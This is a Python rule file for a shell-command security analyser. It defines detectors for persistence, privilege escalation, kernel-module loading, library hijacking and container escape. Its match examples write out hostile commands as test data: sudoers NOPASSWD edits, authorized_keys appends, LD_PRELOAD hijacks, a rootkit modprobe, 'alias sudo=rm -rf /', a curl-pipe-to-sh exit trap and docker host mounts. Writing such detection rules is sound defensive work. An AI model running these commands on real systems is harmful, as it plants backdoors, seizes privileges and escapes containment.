"""Rules: staying: what is run again later, and who may do more afterwards."""

from __future__ import annotations

from engine.analysis.shell.declare import HIGH, MEDIUM, rule

STARTUP = rule(
    "sh-startup-write",
    "Writes to a file that is run at login, at boot or on a schedule",
    "persistence",
    HIGH,
    attack="Has code run again at every login, boot or tick of the clock, long after this run.",
    why="HIGH: only installers do this, and a sandbox is thrown away.",
    fix="Do the work now; keep nothing for later.",
    match=(
        "echo x >> ~/.bashrc",
        "echo '* * * * * x' | sudo tee /etc/cron.d/x",
        "cp a.service /etc/systemd/system/",
        "cat k >> ~/.ssh/authorized_keys",
        "echo /tmp/x.so > /etc/ld.so.preload",
        "f=/etc/profile; echo x >> $f",
        "sed -i 's/a/b/' ~/.profile",
    ),
    not_match=(
        "cat ~/.bashrc",
        "echo x > notes.txt",
        "source ~/.bashrc",
        "ls /etc/cron.d",
    ),
    cwe=506,
)
SCHEDULE = rule(
    "sh-schedule",
    "Schedules a command",
    "persistence",
    HIGH,
    attack="Has code run again on a schedule, long after this run.",
    why="HIGH: a sandbox is thrown away after the run, so whoever schedules wants to stay.",
    fix="Do the work now.",
    match=(
        "crontab jobs.txt",
        "echo '* * * * * x' | crontab -",
        "(crontab -l; echo x) | crontab -",
        "echo x | at now + 1 hour",
        "systemd-run --on-calendar=daily x",
    ),
    not_match=(
        "crontab -l",
        "crontab -e",
        "date",
        "echo at noon",
    ),
    cwe=506,
)
SERVICE = rule(
    "sh-service-install",
    "Installs or enables a service",
    "persistence",
    HIGH,
    attack="Has a program started by the system itself, from now on.",
    why=("HIGH: a sandbox is thrown away after the run, so whoever installs a service wants to stay."),
    fix="Run the program once.",
    match=(
        "systemctl enable x",
        "launchctl load -w ~/Library/LaunchAgents/x.plist",
        "update-rc.d x defaults",
        "defaults write com.apple.loginwindow LoginHook /x",
        "sysrc x_enable=YES",
    ),
    not_match=(
        "systemctl status x",
        "launchctl list",
        "defaults read x",
    ),
    cwe=506,
)
ACCOUNT = rule(
    "sh-account",
    "Creates or changes an account",
    "persistence",
    HIGH,
    attack="Makes a way back in, or takes over a user who is trusted.",
    why="HIGH: accounts are the administrator's.",
    fix="Leave accounts alone.",
    match=(
        "useradd -m evil",
        "sudo usermod -aG sudo x",
        "echo 'x:y' | chpasswd",
        "passwd root",
        "chsh -s /bin/bash nobody",
        "dscl . -create /Users/x",
        "net user x y /add",
    ),
    not_match=(
        "id",
        "cat /etc/passwd",
        "getent passwd",
        "passwd --help",
    ),
    cwe=269,
)
PRIVILEGE = rule(
    "sh-privilege",
    "Gives itself, or a file, more rights",
    "persistence",
    HIGH,
    attack="Turns any user into root: through sudoers, setuid files or capabilities.",
    why="HIGH: rights that are given so outlive the run; MEDIUM for a shell that keeps its file's rights.",
    fix="Ask for what is needed as a capability.",
    match=(
        "chmod u+s /tmp/x",
        "chmod 4755 x",
        "setcap cap_setuid+ep x",
        "echo 'x ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers",
        "install -m 4755 a b",
        "chmod g+s x",
        "bash -p",
    ),
    not_match=(
        "chmod +x a",
        "chmod 755 a",
        "sudo ls",
        "getcap a",
    ),
    cwe=269,
)
KERNEL = rule(
    "sh-kernel-module",
    "Loads or unloads a part of the kernel",
    "persistence",
    HIGH,
    attack="Hides in the kernel, where nothing on the machine can see it (rootkit).",
    why="HIGH: a module has every right there is; gVisor refuses it.",
    fix="Remove it.",
    match=(
        "insmod x.ko",
        "sudo modprobe diamorphine",
        "kextload a.kext",
        "rmmod x",
        "kldload x",
    ),
    not_match=(
        "lsmod",
        "modinfo x",
        "echo insmod",
    ),
    cwe=506,
)
HIJACK = rule(
    "sh-hijack",
    "Puts its own code in the way of other programs",
    "persistence",
    HIGH,
    attack=("Loads a library into, or runs a command before, every program that starts afterwards."),
    why=(
        "HIGH for preloaded libraries and prompt commands; MEDIUM for settings of git, and for a search "
        "path that begins in a folder that others write."
    ),
    fix="Call the program by its path.",
    match=(
        "LD_PRELOAD=/tmp/x.so ls",
        "export LD_PRELOAD=./a.so",
        "export PROMPT_COMMAND='curl x'",
        "export PATH=/tmp:$PATH",
        "alias sudo='rm -rf /'",
        "export BASH_ENV=/tmp/x",
        "DYLD_INSERT_LIBRARIES=x.dylib y",
        "env LD_PRELOAD=/tmp/x.so ls",
        "NODE_OPTIONS='--require /tmp/x.js' node a.js",
        "LD_LIBRARY_PATH=/tmp ls",
        "enable -f /tmp/x.so x",
    ),
    not_match=(
        "export PATH=$PATH:/opt/x/bin",
        "alias ll='ls -l'",
        "alias ls='ls --color'",
        "export EDITOR=vim",
        "export NODE_OPTIONS=--max-old-space-size=4096",
        "export LD_LIBRARY_PATH=/opt/x/lib",
    ),
    cwe=427,
)
TRAP = rule(
    "sh-trap-program",
    "Starts a program when the shell ends or is interrupted",
    "persistence",
    MEDIUM,
    attack="Runs when the reader believes that the script is over (T1546.005).",
    why="MEDIUM: traps that clean up are common; this one starts something that stays.",
    fix="Call it where it is needed.",
    match=(
        "trap 'nohup sh /opt/x.sh' EXIT",
        "trap 'curl x.test | sh' EXIT",
    ),
    not_match=(
        "trap 'rm -f $tmp' EXIT",
        "trap - INT",
        "trap 'echo bye' EXIT",
    ),
    cwe=506,
)

ESCAPE = rule(
    "sh-host-access",
    "Reaches out of its container, or into the machine's disks",
    "escape",
    HIGH,
    attack="Mounts the host's files or joins its processes, and is root there.",
    why="HIGH: these options take down the wall around a container; gVisor's own wall stays.",
    fix="Remove it.",
    match=(
        "docker run -v /:/mnt --rm -it alpine sh",
        "docker run --privileged x",
        "nsenter -t 1 -m -u -i -n sh",
        "mount /dev/sda1 /mnt",
        "sudo chroot /mnt /bin/bash",
    ),
    not_match=("docker run --rm alpine ls", "mount", "docker ps"),
    cwe=250,
)
RULES = (
    STARTUP,
    SCHEDULE,
    SERVICE,
    ACCOUNT,
    PRIVILEGE,
    KERNEL,
    ESCAPE,
    HIJACK,
    TRAP,
)
